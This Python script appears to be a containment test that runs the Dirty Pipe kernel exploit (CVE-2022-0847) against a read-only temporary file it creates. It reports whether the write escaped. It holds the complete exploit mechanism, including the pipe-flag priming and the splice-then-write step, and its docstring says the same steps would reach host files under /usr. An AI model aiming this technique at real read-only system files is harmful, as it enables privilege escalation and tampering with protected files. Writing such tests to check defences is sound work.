"""Writes into the page cache of a read-only file through a spliced pipe (Dirty Pipe, CVE-2022-0847).

Read-only files of /usr are shared with the host, so this would reach it. Stopped by a fixed kernel, or
by refusing splice. The target is a file of our own, opened read-only: the same proof without the harm.
"""
import ctypes
import errno
import os
import tempfile

SPLICE = {"x86_64": 275, "aarch64": 76}[os.uname().machine]
REFUSALS = ("EPERM", "EACCES", "ENOSYS")  # Any other answer means that the kernel took the call.
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(number, *arguments):
    """Returns the result and, where it failed, the name of the errno."""
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = libc.syscall(ctypes.c_long(number), *words)
    return result, errno.errorcode.get(ctypes.get_errno(), "unknown errno") if result < 0 else None


path = os.path.join(tempfile.mkdtemp(), "target")
with open(path, "wb") as file:
    file.write(b"A" * 4096)
os.chmod(path, 0o444)
target = os.open(path, os.O_RDONLY)

reader, writer = os.pipe()
for _ in range(16):  # Filled and drained once, every slot of the pipe keeps its "may be merged" flag.
    os.write(writer, bytes(4096))
for _ in range(16):
    os.read(reader, 4096)
spliced, error = syscall(SPLICE, target, None, writer, None, 1, 0)
os.write(writer, b"OVERWRITTEN")

if b"OVER" in os.pread(target, 64, 0):
    print("ESCAPED: wrote into a file opened read-only")
else:
    print(f"CONTAINED: {error or 'spliced, but the file is unchanged'}")
